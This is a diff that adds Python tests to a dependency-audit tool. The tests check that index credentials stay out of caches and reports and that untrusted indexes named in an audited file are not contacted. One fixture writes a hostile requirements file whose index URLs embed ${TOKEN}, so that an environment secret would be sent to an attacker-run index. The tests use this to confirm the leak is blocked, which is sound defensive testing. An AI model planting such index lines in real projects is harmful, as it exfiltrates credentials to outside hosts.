@@ -11,6 +11,7 @@ directories. Report renderers on their own are covered in tests/report; this cov
 from __future__ import annotations
 
 import base64
+import json
 import logging
 import os
 import traceback
@@ -364,3 +365,95 @@ def test_credentials_in_the_configuration_file_leak_nowhere(
     assert "***@127.0.0.1" in document
     if scenario != "refused":
         assert any(h.get("Authorization") == f"Basic {BASIC}" for h in setup.server.headers_seen)
+
+
+def test_audit_against_a_private_index_whose_answers_are_public_stores_no_credential(
+    setup: Setup, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
+) -> None:
+    """``Cache-Control: public`` lets the cache store authenticated answers: the token stays out of it."""
+    setup.server.cache_control = "public, max-age=3600"
+    args = ["audit", "requirements.txt", "--no-deps", "--policy", "sl5.toml", "--format", "json"]
+    cold = execute(args, capsys, caplog)
+    sent = len(setup.server.requests)
+    warm = execute(args, capsys, caplog)
+    assert cold.code in {1, 3}, cold.text()[-3000:]
+    assert warm.code == cold.code
+    assert len(setup.server.requests) - sent < sent  # the warm run was answered from the cache
+    assert any(h.get("Authorization") == f"Basic {BASIC}" for h in setup.server.headers_seen)
+    cache = all_files(Path(os.environ["SUPPLYCHAIN_CACHE_DIR"]))
+    assert any(p.name.startswith("http-cache.sqlite") for p in cache)
+    assert_no_secret(warm, *cache)
+
+
+ENV_SECRET = "env-S3CRET-value"
+
+
+def _file_naming_evil_indexes(setup: Setup, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A pull request's requirements file sending ``${TOKEN}`` to its own index, in userinfo and path."""
+    monkeypatch.setenv("TOKEN", ENV_SECRET)
+    evil = setup.elsewhere.url
+    path = setup.root / "pr-requirements.txt"
+    path.write_text(
+        f"--index-url {evil.replace('://', '://${TOKEN}@')}/simple/\n"
+        f"--extra-index-url {evil}/${{TOKEN}}/simple/\n{PINS}"
+    )
+    return path
+
+
+def test_sl5_never_asks_an_index_only_the_audited_file_names_nor_prints_its_expanded_token(
+    setup: Setup,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    path = _file_naming_evil_indexes(setup, monkeypatch)
+    out_dir = setup.root / "reports"
+    args = ["audit", str(path), "--no-deps", "--policy", "sl5.toml", "--format", ALL_FORMATS]
+    captured = execute([*args, "--output", str(out_dir)], capsys, caplog)
+    assert captured.code == 1, captured.text()[-3000:]
+    assert setup.elsewhere.seen == []  # not a single request, so not the token either
+    text = captured.text() + "".join(p.read_text() for p in all_files(out_dir))
+    assert ENV_SECRET not in text
+    document = json.loads((out_dir / "supplychain.json").read_text())
+    refused = [f for f in document["findings"] if f["rule"] == "untrusted-source" and not f["package"]]
+    assert sorted(f["evidence"]["index"] for f in refused) == sorted(
+        [
+            f"{setup.elsewhere.url}/${{TOKEN}}/simple/",
+            setup.elsewhere.url.replace("://", "://***@") + "/simple/",
+        ]
+    )
+    assert {f["action"] for f in refused} == {"fail"}
+
+
+def test_below_sl4_a_file_named_index_taking_an_env_value_is_not_asked_nor_the_value_printed(
+    setup: Setup,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """SL1-SL3 ask a file's own indexes as pip would, but never send one a value from the environment."""
+    path = _file_naming_evil_indexes(setup, monkeypatch)
+    args = ["audit", str(path), "--no-deps", "--policy", "sl3", "--format", "json", "--debug"]
+    captured = execute(args, capsys, caplog)
+    assert captured.code == 1, captured.text()[-3000:]
+    assert setup.elsewhere.seen == []
+    assert ENV_SECRET not in captured.text()
+    refused = [f for f in json.loads(captured.out)["findings"] if f["rule"] == "untrusted-source"]
+    assert f"{setup.elsewhere.url}/${{TOKEN}}/simple/" in {f["evidence"].get("index") for f in refused}
+
+
+def test_below_sl4_a_file_named_index_without_env_values_is_asked_as_pip_would(
+    setup: Setup,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    path = setup.root / "pr-requirements.txt"
+    path.write_text(f"--index-url {setup.elsewhere.url}/simple/\n{PINS}")
+    for level, asked in (("sl3", True), ("sl4", False)):
+        setup.elsewhere.seen.clear()
+        captured = execute(
+            ["audit", str(path), "--no-deps", "--policy", level, "--format", "json"], capsys, caplog
+        )
+        assert captured.code in {1, 3}, captured.text()[-3000:]
+        assert bool(setup.elsewhere.seen) is asked, level
